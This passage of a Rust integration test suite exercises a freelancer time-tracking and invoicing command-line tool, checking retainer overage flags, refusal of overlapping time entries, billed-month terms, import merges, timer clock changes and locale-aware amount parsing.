    d.ok(&["client", "add", "Beta", "--retainer", "5", "--fee", "100"]);
    d.at("2026-10-20 09:00");
    d.ok(&["time", "log", "--client", "Beta", "6h31m", "--on", "2026-10-02 09:00"]);
    d.ok(&["time", "log", "--client", "Beta", "10m", "--on", "2026-10-05 09:00"]);
    d.at("2026-11-23 09:00");
    d.ok(&["tick", "--once"]);
    let flags = d.json(&["flag", "list", "--json"]);
    assert_eq!(flags[0]["kind"], "scope_creep", "{flags}");
    assert_eq!(
        flags[0]["note"], "6h 41m / 5h 00m (2026-10)",
        "the month, not the client"
    );
    let score = |d: &Desk| d.json(&["client", "show", "Beta", "--json"])["score"].as_f64().unwrap();
    assert!(score(&d) > 0.0);
    // Ten minutes less is still over: the flag stays.
    let entries = d.json(&["time", "list", "--month", "2026-10", "--json"]);
    let id_of = |minutes: i64| {
        entries
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["minutes"] == minutes)
            .unwrap()["id"]
            .to_string()
    };
    d.ok(&["time", "delete", &id_of(10)]);
    assert_eq!(d.json(&["flag", "list", "--json"]).as_array().unwrap().len(), 1);
    // Made not billable, the month is no longer over: the flag goes and stops counting, and
    // the tick does not raise it again.
    d.ok(&["time", "edit", &id_of(391), "--unbilled"]);
    assert_eq!(d.json(&["flag", "list", "--json"]).as_array().unwrap().len(), 0);
    assert_eq!(score(&d), 0.0);
    d.ok(&["tick", "--once"]);
    assert_eq!(d.json(&["flag", "list", "--json"]).as_array().unwrap().len(), 0);
    // Billable again, the next pass raises it again; deleted, it goes.
    d.ok(&["time", "edit", &id_of(391), "--billable"]);
    d.ok(&["tick", "--once"]);
    assert_eq!(d.json(&["flag", "list", "--json"]).as_array().unwrap().len(), 1);
    d.ok(&["time", "delete", &id_of(391)]);
    assert_eq!(d.json(&["flag", "list", "--json"]).as_array().unwrap().len(), 0);
    assert_eq!(score(&d), 0.0);
}

#[test]
fn the_upgrade_drops_scope_creep_flags_whose_time_is_gone_and_names_their_month() {
    let mut d = Desk::new();
    d.at("2026-10-01 09:00");
    for name in ["Beta", "Gamma"] {
        d.ok(&["client", "add", name, "--retainer", "5", "--fee", "100"]);
    }
    d.at("2026-10-20 09:00");
    for (name, day) in [("Beta", "2026-10-02 09:00"), ("Gamma", "2026-10-03 09:00")] {
        d.ok(&["time", "log", "--client", name, "6h31m", "--on", day]);
    }
    d.at("2026-11-23 09:00");
    d.ok(&["tick", "--once"]);
    assert_eq!(count(&d.db, "SELECT count(*) FROM flags WHERE kind = 'scope_creep'"), 2);
    // A store of step 21, the one before this step (22), the billed terms (23) and the minutes
    // as invoiced (24): Beta's time deleted with the flag left, notes ending with the client's
    // name.
    {
        let c = rusqlite::Connection::open(&d.db).unwrap();
        common::triggers_back_in_the_file(&c);
        let v: i64 = c.query_row("PRAGMA user_version", [], |r| r.get(0)).unwrap();
        assert_eq!(v, 24, "renumber: steps were added after the minutes as invoiced");
        c.execute_batch(&format!(
            "{UNDO_INVOICED_MINUTES}
             DROP TABLE billed_terms;
             DROP TRIGGER scope_gone_time_del; DROP TRIGGER scope_gone_time_upd;
             DELETE FROM time_entries WHERE client_id = (SELECT id FROM clients WHERE name = 'Beta');
             UPDATE flags SET note = '6h 31m / 5h 00m (' || (SELECT name FROM clients WHERE id = flags.client_id) || ')';
             PRAGMA user_version = {};",
            v - 3
        ))
        .unwrap();
    }
    let flags = d.json(&["flag", "list", "--json"]);
    let flags = flags.as_array().unwrap();
    assert_eq!(flags.len(), 1, "{flags:?}");
    assert_eq!(flags[0]["client"], "Gamma");
    assert_eq!(flags[0]["note"], "6h 31m / 5h 00m (2026-10)");
}

/// One thing at a time: time logged, moved or lengthened over a span another entry covers
/// (of any client, the running timer's up to now included) is refused naming that entry, and
/// nothing is written; touching ends are fine, an entry never clashes with itself, and an
/// import keeps what the file holds.
#[test]
fn time_over_a_span_already_logged_is_refused() {
    let mut d = Desk::new();
    d.at("2026-11-23 18:00");
    d.ok(&["client", "add", "Ana"]);
    d.ok(&["client", "add", "Bloom"]);
    let t = d.ok(&["task", "add", "Bloom", "Newsletter"]);
    let a = d.ok(&["time", "log", "--client", "Ana", "1h", "--on", "2026-11-23 10:00"]);
    let before = d.snapshot();
    let said = format!("that time overlaps time entry {a} of Ana, Mon 23 Nov from 10:00 to 11:00");
    for args in [
        vec!["time", "log", "--client", "Bloom", "1h", "--on", "2026-11-23 10:30"],
        vec!["time", "log", &t, "30m", "--on", "2026-11-23 09:45"],
        vec!["time", "log", &t, "3h", "--on", "2026-11-23 09:00"],
        vec!["time", "log", "--client", "Ana", "1m", "--on", "2026-11-23 10:59"],
    ] {
        let (code, err) = d.fails(&args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains(&said) && err.contains("nothing was saved"),
            "{args:?}: {err}"
        );
    }
    let (_, err) = d.fails(&[
        "--lang",
        "es",
        "time",
        "log",
        "--client",
        "Bloom",
        "1h",
        "--on",
        "2026-11-23 10:30",
    ]);
    assert!(
        err.contains(&format!(
            "ese tiempo se solapa con la entrada de tiempo {a} de Ana, el lun 23 nov de 10:00 a 11:00"
        )),
        "{err}"
    );
    assert_eq!(d.snapshot(), before, "a refused entry was written");
    // Touching ends do not overlap.
    let b = d.ok(&["time", "log", &t, "1h", "--on", "2026-11-23 11:00"]);
    d.ok(&["time", "log", "--client", "Bloom", "1h", "--on", "2026-11-23 09:00"]);
    // Editing: an entry overlaps only others, never itself.
    d.ok(&["time", "edit", &a, "--on", "2026-11-23 10:00", "--minutes", "1h"]);
    d.ok(&["time", "edit", &a, "--minutes", "45m"]);
    d.ok(&["time", "edit", &a, "--note", "call"]);
    let before = d.snapshot();
    let (_, err) = d.fails(&["time", "edit", &a, "--minutes", "90m"]);
    assert!(
        err.contains(&format!("time entry {b} of Bloom, Mon 23 Nov from 11:00 to 12:00")),
        "{err}"
    );
    let (_, err) = d.fails(&["time", "edit", &b, "--on", "2026-11-23 10:30"]);
    assert!(
        err.contains(&format!("time entry {a} of Ana, Mon 23 Nov from 10:00 to 10:45")),
        "{err}"
    );
    assert_eq!(d.snapshot(), before, "a refused edit was written");
    // The running timer covers from its start up to now.
    d.at("2026-11-23 13:00");
    let timer = d.ok(&["time", "start", "--client", "Ana"]);
    d.at("2026-11-23 14:00");
    let (_, err) = d.fails(&["time", "log", &t, "30m", "--on", "2026-11-23 13:30"]);
    assert!(
        err.contains(&format!(
            "that time overlaps the timer running on Ana since Mon 23 Nov 13:00 (time entry {timer}): stop it first"
        )),
        "{err}"
    );
    d.ok(&["time", "log", &t, "30m", "--on", "2026-11-23 12:30"]);
    d.ok(&["time", "stop"]);
    // A timer cannot start inside an entry's span (the clock put back, or time logged ahead
    // by another machine).
    d.at("2026-11-23 10:15");
    let before = d.snapshot();
    let (_, err) = d.fails(&["time", "start", &t]);
    assert!(
        err.contains(&format!("time entry {a} of Ana, Mon 23 Nov from 10:00 to 10:45")),
        "{err}"
    );
    assert_eq!(d.snapshot(), before, "a refused timer was started");
    // An import keeps overlapping entries as the file holds them.
    let mut export = d.snapshot();
    let mut copy = export["time_entries"][0].clone();
    copy["id"] = serde_json::json!(900);
    copy["uuid"] = serde_json::json!("0b5f8a3e-6c2d-4e1f-9a7b-3c4d5e6f7a8b");
    export["time_entries"].as_array_mut().unwrap().push(copy);
    let file = d.dir.path().join("overlap.json");
    std::fs::write(&file, export.to_string()).unwrap();
    // On a day the time has been worked (time ending after now is refused).
    let mut other = Desk::new();
    other.at("2026-11-23 18:00");
    other.ok(&["import", file.to_str().unwrap()]);
    assert_eq!(other.snapshot(), export);
}

/// The minimum rate is in the default currency: a client billed in another is never judged
/// against it (£20/h was flagged under a minimum of €25, as one number compared with another),
/// while a client in the default currency still is.
#[test]
fn underpaying_judges_only_clients_in_the_default_currency() {
    let mut d = Desk::new();
    d.at("2026-03-20 09:00");
    let cfg = d.dir.path().join("config.toml");
    std::fs::write(&cfg, "min_rate = 25\n").unwrap();
    let c = cfg.to_str().unwrap();
    d.ok(&["client", "add", "London", "--rate", "20", "--currency", "GBP"]);
    d.ok(&["client", "add", "Madrid", "--rate", "20"]);
    d.ok(&["client", "add", "Paris", "--rate", "20", "--currency", "eur"]);
    for (client, on) in [
        ("London", "2026-03-02 09:00"),
        ("Madrid", "2026-03-03 09:00"),
        ("Paris", "2026-03-04 09:00"),
    ] {
        d.ok(&["time", "log", "--client", client, "2h", "--on", on]);
    }
    let tick = d.json(&["--config", c, "tick", "--once", "--json"]);
    let mut flagged: Vec<String> = tick["new_flags"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "underpaying")
        .map(|f| f["client"].as_str().unwrap().into())
        .collect();
    flagged.sort();
    assert_eq!(flagged, vec!["Madrid".to_string(), "Paris".to_string()]);
    // Passes after the first read the kept rates: still not London.
    d.at("2026-03-21 09:00");
    let again = d.json(&["--config", c, "tick", "--once", "--json"]);
    assert!(
        again["new_flags"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["client"] != "London"),
        "{again}"
    );
}

/// A month once billed keeps the terms of its first billing: a later raise, another increment
/// or currency, a new fee or the client's end change the months to come, never what a billed
/// month earned, its minutes as billed, or the price of time found late and billed after; the
/// statement, `--all` and the text say so, and an export carries them.
#[test]
fn a_billed_month_keeps_the_terms_it_was_billed_under() {
    let mut d = Desk::new();
    d.at("2026-03-02 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "40", "--increment", "15m"]);
    d.ok(&[
        "client",
        "add",
        "Beta",
        "--retainer",
        "10",
        "--fee",
        "500",
        "--overage-rate",
        "60",
    ]);
    d.at("2026-03-31 18:00");
    d.ok(&["time", "log", "--client", "Acme", "40m", "--on", "2026-03-03 10:00"]);
    d.ok(&["time", "log", "--client", "Beta", "11h", "--on", "2026-03-04 10:00"]);
    d.at("2026-04-01 09:00");
    let st = |d: &Desk, who: &str, month: &str| d.json(&["statement", who, "--month", month, "--json"]);
    let a = st(&d, "Acme", "2026-03");
    assert_eq!(
        (a["amount_cents"].as_i64(), a["billed_minutes"].as_i64()),
        (Some(3000), Some(45))
    );
    assert_eq!(a["effective_rate_cents"], 4500, "{a}");
    assert!(a["terms_billed_on"].is_null(), "{a}");
    let b = st(&d, "Beta", "2026-03");
    assert_eq!(b["amount_cents"], 56000, "the fee and an hour over: {b}");
    for who in ["Acme", "Beta"] {
        d.ok(&["statement", who, "--month", "2026-03", "--mark-billed"]);
    }
    assert_eq!(count(&d.db, "SELECT count(*) FROM billed_terms"), 2);
    // Then a raise in another currency and increment; Beta's fee goes up, and Beta ends.
    d.at("2026-05-10 09:00");
    d.ok(&[
        "client",
        "edit",
        "Acme",
        "--rate",
        "55",
        "--increment",
        "30m",
        "--currency",
        "USD",
    ]);
    d.ok(&["client", "edit", "Beta", "--fee", "900", "--overage-rate", "90"]);
    d.ok(&["client", "edit", "Beta", "--status", "ended"]);
    let a = st(&d, "Acme", "2026-03");
    assert_eq!(a["amount_cents"], 0, "all invoiced: {a}");
    assert_eq!(a["rate_cents"], 4000, "{a}");
    assert_eq!(a["currency"], "EUR", "{a}");
    assert_eq!(a["billed_minutes"], 45, "{a}");
    assert_eq!(a["entries"][0]["billed_minutes"], 45, "{a}");
    assert_eq!(a["effective_rate_cents"], 4500, "{a}");
    assert_eq!(a["terms_billed_on"], "2026-04-01", "{a}");
    let b_now = st(&d, "Beta", "2026-03");
    assert_eq!(b_now["amount_cents"], 0, "all invoiced: {b_now}");
    for field in ["effective_rate_cents", "overage_minutes", "retainer_minutes"] {
        assert_eq!(b_now[field], b[field], "{field}: {b_now}");
    }
    let text = d.ok(&["statement", "Beta", "--month", "2026-03"]);
    assert!(text.contains("first billed"), "{text}");
    assert!(!text.contains("ended"), "the fee was owed when billed: {text}");
    // A month not billed follows today's terms.
    d.ok(&["time", "log", "--client", "Acme", "50m", "--on", "2026-04-03 10:00"]);
    let april = st(&d, "Acme", "2026-04");
    assert_eq!(
        (april["amount_cents"].as_i64(), april["currency"].as_str()),
        (Some(5500), Some("USD"))
    );
    assert!(april["terms_billed_on"].is_null(), "{april}");
    // Time found late in a billed month is priced as the month was billed.
    d.ok(&["time", "log", "--client", "Acme", "20m", "--on", "2026-03-20 10:00"]);
    let a = st(&d, "Acme", "2026-03");
    assert_eq!(a["billed_minutes"], 45 + 30, "{a}");
    assert_eq!(a["amount_cents"], 2000, "30 min at 40.00: {a}");
    let text = d.ok(&["statement", "Acme", "--month", "2026-03"]);
    for said in ["amount of the month", "already invoiced", "amount to invoice"] {
        assert!(text.contains(said), "{said}: {text}");
    }
    let all = d.json(&["statement", "--all", "--month", "2026-03", "--json"]);
    let line = |name: &str| {
        all["clients"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["client"] == name)
            .cloned()
            .unwrap()
    };
    let mut whole = a.clone();
    whole.as_object_mut().unwrap().remove("entries");
    assert_eq!(line("Acme"), whole, "{all}");
    assert_eq!(line("Beta")["terms_billed_on"], "2026-04-01", "{all}");
    assert_eq!(line("Beta")["effective_rate_cents"], b["effective_rate_cents"], "{all}");
    d.ok(&["statement", "Acme", "--month", "2026-03", "--mark-billed"]);
    assert_eq!(st(&d, "Acme", "2026-03")["terms_billed_on"], "2026-04-01");
    assert_eq!(count(&d.db, "SELECT count(*) FROM billed_terms"), 2);
    // A month with nothing billed keeps no terms.
    d.ok(&["client", "add", "Gamma", "--rate", "30"]);
    d.fails(&["statement", "Gamma", "--month", "2026-03", "--mark-billed"]);
    assert_eq!(count(&d.db, "SELECT count(*) FROM billed_terms"), 2);
    // The terms go with the store: exported, imported into a new store, the same statements.
    let export = d.ok(&["export"]);
    let mut e = Desk::new();
    e.at("2026-05-10 09:00");
    let file = e.dir.path().join("export.json");
    std::fs::write(&file, &export).unwrap();
    e.ok(&["import", file.to_str().unwrap()]);
    for who in ["Acme", "Beta"] {
        assert_eq!(st(&e, who, "2026-03"), st(&d, who, "2026-03"), "{who}");
    }
}

/// `import --merge` never changes a billed time entry (as `time edit` without `--force`): an
/// older or edited export leaves it as it was invoiced and says so; an entry not billed takes
/// the file's changes.
#[test]
fn a_merge_keeps_billed_time_as_it_was_invoiced() {
    let mut d = Desk::new();
    d.at("2026-11-20 10:00");
    d.ok(&["client", "add", "Acme", "--rate", "40"]);
    d.ok(&["client", "add", "Other", "--rate", "40"]);
    d.ok(&["time", "log", "--client", "Acme", "2h", "--on", "2026-11-02 09:00"]);
    d.ok(&["time", "log", "--client", "Acme", "1h", "--on", "2026-11-03 09:00"]);
    let mut export: serde_json::Value = serde_json::from_str(&d.ok(&["export"])).unwrap();
    d.ok(&["statement", "Acme", "--month", "2026-11", "--mark-billed"]);
    d.ok(&["time", "log", "--client", "Acme", "30m", "--on", "2026-11-04 09:00"]);
    let before = d.json(&["time", "list", "--json"]);
    // The file: the first billed entry made 300 unbilled minutes, the second moved to another
    // client and month; the third (not billed) shortened.
    let other = export["clients"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "Other")
        .unwrap()["id"]
        .clone();
    let acme = export["clients"][0]["id"].clone();
    let entries = export["time_entries"].as_array_mut().unwrap();
    entries[0]["minutes"] = 300.into();
    entries[0]["billable"] = false.into();
    entries[1]["client_id"] = other;
    entries[1]["start"] = "2026-10-03 09:00".into();
    let third = before
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["minutes"] == 30)
        .unwrap()
        .clone();
    let mut changed = third.clone();
    changed["minutes"] = 20.into();
    let mut row = serde_json::Map::new();
    for key in ["id", "uuid", "start", "minutes", "billable", "note", "billed_on"] {
        row.insert(key.into(), changed[key].clone());
    }
    row.insert("client_id".into(), acme);
    entries.push(serde_json::Value::Object(row));
    let file = d.dir.path().join("older.json");
    std::fs::write(&file, serde_json::to_string(&export).unwrap()).unwrap();
    let out = d.ok(&["import", file.to_str().unwrap(), "--merge"]);
    assert!(
        out.contains("2 billed time entries were kept as they were invoiced"),
        "{out}"
    );
    let after = d.json(&["time", "list", "--json"]);
    let by_uuid = |v: &serde_json::Value, u: &serde_json::Value| {
        v.as_array().unwrap().iter().find(|e| e["uuid"] == *u).cloned().unwrap()
    };
    for e in before.as_array().unwrap() {
        let now = by_uuid(&after, &e["uuid"]);
        if e["uuid"] == third["uuid"] {
            assert_eq!(now["minutes"], 20, "not billed: the file's change is taken");
        } else {
            assert_eq!(&now, e, "billed: kept as invoiced");
        }
    }
    let st = d.json(&["statement", "Acme", "--month", "2026-11", "--json"]);
    assert_eq!(st["billed_minutes"], 180 + 20, "{st}");
}

/// A timer that started later than now (the clock went back: a change of time, a clock ahead
/// on another machine, an import) is never stopped into nothing: the stop is refused, saying
/// why and how out, and the timer keeps running with its note.
#[test]
fn a_timer_started_after_now_is_not_lost_when_stopped() {
    let mut d = Desk::new();
    d.at("2026-10-25 02:50");
    d.ok(&["client", "add", "Acme"]);
    let id = d.id(&["time", "start", "--client", "Acme", "--note", "night work"]);
    d.at("2026-10-25 02:10");
    for args in [&["time", "stop"][..], &["time", "stop", "--keep"][..]] {
        let (code, err) = d.fails(args);
        assert_eq!(code, 2, "{err}");
        assert!(
            err.contains("later than now") && err.contains(&format!("time delete {id}")),
            "{err}"
        );
    }
    let list = d.json(&["time", "list", "--json"]);
    assert_eq!(list[0]["note"], "night work");
    assert!(list[0]["minutes"].is_null(), "still running: {list}");
    // A skew of a minute is a stop within the first minute, as always.
    d.at("2026-10-25 02:49");
    let out = d.ok(&["time", "stop"]);
    assert!(out.contains("nothing logged"), "{out}");
    // And once the clock has passed its start, a timer stops as usual.
    d.at("2026-10-25 02:50");
    d.id(&["time", "start", "--client", "Acme"]);
    d.at("2026-10-25 03:20");
    assert!(d.ok(&["time", "stop"]).contains("30 min"));
}

/// A retainer's month without time still owes its fee, and billing it is possible: once marked
/// billed, nothing is left to invoice for it, and the month keeps its terms; a month with
/// nothing to invoice at all is refused, saying so.
#[test]
fn a_retainer_fee_alone_is_billed() {
    let mut d = Desk::new();
    d.at("2026-11-02 09:00");
    d.ok(&["client", "add", "Acme", "--retainer", "10", "--fee", "600"]);
    d.at("2026-12-02 09:00");
    let nov = d.json(&["statement", "Acme", "--month", "2026-11", "--json"]);
    assert_eq!(nov["amount_cents"], 60000, "{nov}");
    let out = d
        .cmd()
        .args(["statement", "Acme", "--month", "2026-11", "--mark-billed"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("retainer fee for 2026-11 marked as billed"), "{said}");
    let nov = d.json(&["statement", "Acme", "--month", "2026-11", "--json"]);
    assert_eq!(nov["amount_cents"], 0, "{nov}");
    assert_eq!(nov["terms_billed_on"], "2026-12-02", "{nov}");
    let all = d.json(&["statement", "--all", "--month", "2026-11", "--json"]);
    assert_eq!(all["clients"][0]["amount_cents"], 0, "{all}");
    // Billed again: nothing left, refused.
    let (code, err) = d.fails(&["statement", "Acme", "--month", "2026-11", "--mark-billed"]);
    assert_eq!(code, 2);
    assert!(err.contains("no billable time or fee is left"), "{err}");
    // Time found late in the month: only it is left to invoice (the overage, none here).
    d.ok(&["time", "log", "--client", "Acme", "2h", "--on", "2026-11-20 10:00"]);
    let nov = d.json(&["statement", "Acme", "--month", "2026-11", "--json"]);
    assert_eq!(nov["amount_cents"], 0, "within the retainer's hours: {nov}");
    d.ok(&["statement", "Acme", "--month", "2026-11", "--mark-billed"]);
    // A client without a retainer or time has nothing to bill.
    d.ok(&["client", "add", "Beta", "--rate", "30"]);
    let (code, _) = d.fails(&["statement", "Beta", "--month", "2026-11", "--mark-billed"]);
    assert_eq!(code, 2);
    assert_eq!(count(&d.db, "SELECT count(*) FROM billed_terms"), 1);
}

/// An amount whose one separator is the language's decimal mark before three digits (`30.555`
/// in English, `30,555` in Spanish) reads two ways: it is refused, saying how to write the
/// thousands, never stored a thousand times too big; the other separator groups thousands.
#[test]
fn an_amount_that_reads_two_ways_is_refused() {
    let d = Desk::new();
    let (code, err) = d.fails(&["client", "add", "Acme", "--rate", "30.555"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("30.555 reads two ways") && err.contains("30555 or 30,555"),
        "{err}"
    );
    assert_eq!(count(&d.db, "SELECT count(*) FROM clients"), 0);
    let (_, err) = d.fails(&["--lang", "es", "client", "add", "Acme", "--rate", "30,555"]);
    assert!(
        err.contains("30,555 se lee de dos maneras") && err.contains("30555 o 30.555"),
        "{err}"
    );
    d.ok(&["client", "add", "Acme", "--rate", "30,555"]);
    assert_eq!(count(&d.db, "SELECT rate_cents FROM clients"), 3_055_500);
    d.ok(&["--lang", "es", "client", "edit", "Acme", "--rate", "1.500"]);
    assert_eq!(count(&d.db, "SELECT rate_cents FROM clients"), 150_000);
    for (typed, cents) in [("30.55", 3055), ("1,500.50", 150_050), ("0.555", 0)] {
        if cents == 0 {
            d.fails(&["client", "edit", "Acme", "--rate", typed]);
        } else {
            d.ok(&["client", "edit", "Acme", "--rate", typed]);
            assert_eq!(count(&d.db, "SELECT rate_cents FROM clients"), cents, "{typed}");
        }
    }
    let (_, err) = d.fails(&["quote", "add", "Acme", "--amount", "1.250"]);
    assert!(err.contains("reads two ways"), "{err}");
}

/// A retainer without an hourly or overage rate prices its overage at nothing: the statement
/// says so, and how to set one, rather than showing the hours as free without a word.
#[test]
fn an_unpriced_overage_is_said() {
    let mut d = Desk::new();
    d.at("2026-11-20 09:00");
    d.ok(&["client", "add", "NoRate", "--retainer", "1", "--fee", "100"]);
    d.ok(&["time", "log", "--client", "norate", "2h", "--on", "2026-11-10 10:00"]);
    let text = d.ok(&["statement", "norate"]);
    assert!(text.contains("no overage rate and no hourly rate"), "{text}");
    d.ok(&["client", "edit", "norate", "--overage-rate", "40"]);
    let text = d.ok(&["statement", "norate"]);
    assert!(!text.contains("no overage rate"), "{text}");
    assert_eq!(d.json(&["statement", "norate", "--json"])["amount_cents"], 14000);
}

/// A month billed on two copies of a store: `import --merge` keeps the store's own kept terms
/// for it (the file's, kept elsewhere, stayed beside them and the earlier one won, re-pricing
/// what the store had invoiced); a client of the same name, or the same client.
#[test]
fn a_merge_keeps_the_terms_the_store_billed_a_month_under() {
    let mut here = Desk::new();
    let mut there = Desk::new();
    for (d, rate, inc) in [(&mut there, "30", "15m"), (&mut here, "70", "1h")] {
        d.at("2026-09-01 09:00");
        d.ok(&["client", "add", "Acme", "--rate", rate, "--increment", inc]);
        d.at("2026-11-20 10:00");
        d.ok(&["time", "log", "--client", "Acme", "1h10m", "--on", "2026-10-05 09:00"]);
    }
    there.ok(&["statement", "Acme", "--month", "2026-10", "--mark-billed"]);
    here.at("2026-11-21 10:00");
    here.ok(&["statement", "Acme", "--month", "2026-10", "--mark-billed"]);
    let before = here.json(&["statement", "Acme", "--month", "2026-10", "--json"]);
    assert_eq!(before["rate_cents"], 7000);
    let file = there.dir.path().join("there.json");
    std::fs::write(&file, there.ok(&["export"])).unwrap();
    here.ok(&["import", file.to_str().unwrap(), "--merge"]);
    let after = here.json(&["statement", "Acme", "--month", "2026-10", "--json"]);
    assert_eq!(after["rate_cents"], 7000, "{after}");
    assert_eq!(after["terms_billed_on"], "2026-11-21", "{after}");
    assert_eq!(count(&here.db, "SELECT count(*) FROM billed_terms"), 1);
    // The same client on a copy of the store, billed there at another rate.
    let copy = Desk::new();
    std::fs::copy(&here.db, &copy.db).unwrap();
    let mut copy = copy;
    copy.at("2026-11-21 10:00");
    copy.ok(&["time", "log", "--client", "Acme", "30m", "--on", "2026-11-03 09:00"]);
    copy.ok(&["statement", "Acme", "--month", "2026-11", "--mark-billed"]);
    here.ok(&["client", "edit", "Acme", "--rate", "90"]);
    here.ok(&["time", "log", "--client", "Acme", "30m", "--on", "2026-11-03 09:00"]);
    here.ok(&["statement", "Acme", "--month", "2026-11", "--mark-billed"]);
    let file = copy.dir.path().join("copy.json");
    std::fs::write(&file, copy.ok(&["export"])).unwrap();
    here.ok(&["import", file.to_str().unwrap(), "--merge"]);
    let nov = here.json(&["statement", "Acme", "--month", "2026-11", "--json"]);
    assert_eq!(nov["rate_cents"], 9000, "{nov}");
    assert_eq!(
        count(&here.db, "SELECT count(*) FROM billed_terms WHERE month = '2026-11'"),
        1
    );
}

/// A month billed before kept terms existed, by a client following the config's currency and
/// increment, keeps those of the config on the upgrade: a later config change does not re-price
/// it.
#[test]
fn an_upgraded_store_s_billed_months_keep_the_config_of_the_upgrade() {
    let mut d = Desk::new();
    config(&d, "currency = \"EUR\"\nincrement = \"15m\"\n");
    d.at("2026-09-01 09:00");
    d.ok(&["client", "add", "Acme", "--rate", "30"]);
    d.at("2026-11-20 10:00");
    d.ok(&["time", "log", "--client", "Acme", "1h10m", "--on", "2026-10-05 09:00"]);
    d.ok(&["statement", "Acme", "--month", "2026-10", "--mark-billed"]);
    // The store as the step before kept terms left it.
    {
        let c = rusqlite::Connection::open(&d.db).unwrap();
        common::triggers_back_in_the_file(&c);
        let v: i64 = c.query_row("PRAGMA user_version", [], |r| r.get(0)).unwrap();
        assert_eq!(v, 24, "renumber: steps were added after the minutes as invoiced");
        c.execute_batch(&format!(
            "{UNDO_INVOICED_MINUTES}
             DROP TABLE billed_terms; DELETE FROM meta WHERE key IN ('store_id', 'billed_terms_defaults');
             PRAGMA user_version = 22;"
        ))
        .unwrap();
    }
    let before = d.json(&["statement", "Acme", "--month", "2026-10", "--json"]);
    assert_eq!(
        (before["billed_minutes"].as_i64(), before["currency"].as_str()),
        (Some(75), Some("EUR"))
    );
    assert_eq!(before["terms_billed_on"], "2026-11-20");
    config(&d, "currency = \"USD\"\nincrement = \"1h\"\n");
    let after = d.json(&["statement", "Acme", "--month", "2026-10", "--json"]);
    assert_eq!(after, before);
    // A month billed since takes the config's defaults of its day, as before.
    assert_eq!(
        count(&d.db, "SELECT count(*) FROM meta WHERE key = 'billed_terms_defaults'"),
        0
    );
}

/// A retainer's month billed for its fee alone keeps its line in `--all` (and the Month view)
/// once the client has ended.
#[test]
fn a_fee_billed_alone_keeps_its_month_s_line() {
    let mut d = Desk::new();
    d.at("2026-09-01 09:00");
    d.ok(&[
        "client",
        "add",
        "Empty",
        "--rate",
        "40",
        "--retainer",
        "10",
        "--fee",
        "300",
    ]);
    d.at("2026-11-20 10:00");
    d.ok(&["statement", "Empty", "--month", "2026-10", "--mark-billed"]);
    d.ok(&["client", "edit", "Empty", "--status", "ended"]);
    let all = d.json(&["statement", "--all", "--month", "2026-10", "--json"]);
    let line = &all["clients"][0];
    assert_eq!(line["client"], "Empty", "{all}");
    assert_eq!(line["terms_billed_on"], "2026-11-20", "{all}");
    assert_eq!(line["retainer_minutes"], 600, "{all}");
    assert_eq!(line["amount_cents"], 0, "{all}");
}

/// A retainer's review row writes its percentage the language's way: `(150%)` in English,
/// `(150 %)` in Spanish, as the Month view's gauge does; the JSON title keeps its one form.
#[test]
fn a_retainer_row_s_percentage_is_written_the_language_s_way() {
    let mut d = Desk::new();
    d.at("2026-11-20 09:00");
    d.ok(&["client", "add", "Acme", "--retainer", "2", "--fee", "100"]);
    d.ok(&["time", "log", "--client", "Acme", "3h", "--on", "2026-11-10 10:00"]);
    assert!(d.ok(&["review"]).contains("(150%)"));
    let es = d.ok(&["--lang", "es", "review"]);
    assert!(es.contains("(150 %)"), "{es}");
    let json = d.json(&["--lang", "es", "review", "--json"]);
    let row = json["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["kind"] == "retainer_used_up")
        .unwrap()
        .clone();
    assert!(row["title"].as_str().unwrap().ends_with("(150%)"), "{row}");
}

/// A timer running across the night the clocks go back counts the minutes that passed: from
/// 00:30 to 03:30 on the last Sunday of October in Madrid is four hours, not three; across the
/// night they go forward, two. (The zone is given as a rule, as the TZ variable takes it, so the
/// test needs no zone files.)
#[test]
fn a_timer_across_a_change_of_the_clocks_counts_the_real_minutes() {
    for (start, stop, minutes) in [
        ("2026-10-25 00:30", "2026-10-25 03:30", 240),
        ("2026-03-29 01:30", "2026-03-29 04:30", 120),
        ("2026-11-02 00:30", "2026-11-02 03:30", 180),
    ] {
        let mut d = Desk::new();
        d.ok(&["client", "add", "Acme"]);
        let run = |d: &Desk, args: &[&str]| {
            let out = d
                .cmd()
                .env("TZ", "CET-1CEST,M3.5.0,M10.5.0/3")
                .args(args)
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        };
        d.at(start);
        run(&d, &["time", "start", "--client", "Acme"]);
        d.at(stop);
        run(&d, &["time", "stop"]);
        let entries = d.json(&["time", "list", "--json"]);
        assert_eq!(entries[0]["minutes"], minutes, "{start} to {stop}: {entries}");
    }
}

/// `time list --task` with an id that names no task says so (it said "No time entries").
/// A slip in a duration is refused, not read as something else (`1h90m` was 2h30m).
#[test]
fn an_unknown_task_or_a_slipped_duration_is_said() {
    let d = Desk::new();
    d.ok(&["client", "add", "Acme"]);
    let task = d.id(&["task", "add", "Acme", "Logo"]).to_string();
    let (_, err) = d.fails(&["time", "list", "--task", "999"]);
    assert!(err.contains("no task with id 999"), "{err}");
    for slip in ["1h90m", "30m1h", "1h60m"] {
        let before = d.snapshot();
        let (_, err) = d.fails(&["time", "log", &task, slip]);
        assert!(err.contains("invalid duration"), "{slip}: {err}");
        assert_eq!(d.snapshot(), before);
    }
    d.ok(&["time", "log", &task, "1h59m"]);
    // `time edit --minutes` takes a bare number as minutes, as its name says.
    let id = d.json(&["time", "list", "--json"])[0]["id"]
        .as_i64()
        .unwrap()
        .to_string();
    d.ok(&["time", "edit", &id, "--minutes", "70"]);
    assert_eq!(d.json(&["time", "list", "--json"])[0]["minutes"], 70);
    d.ok(&["time", "edit", &id, "--minutes", "1h59m"]);
    assert_eq!(d.json(&["time", "list", "--task", &task, "--json"])[0]["minutes"], 119);
}

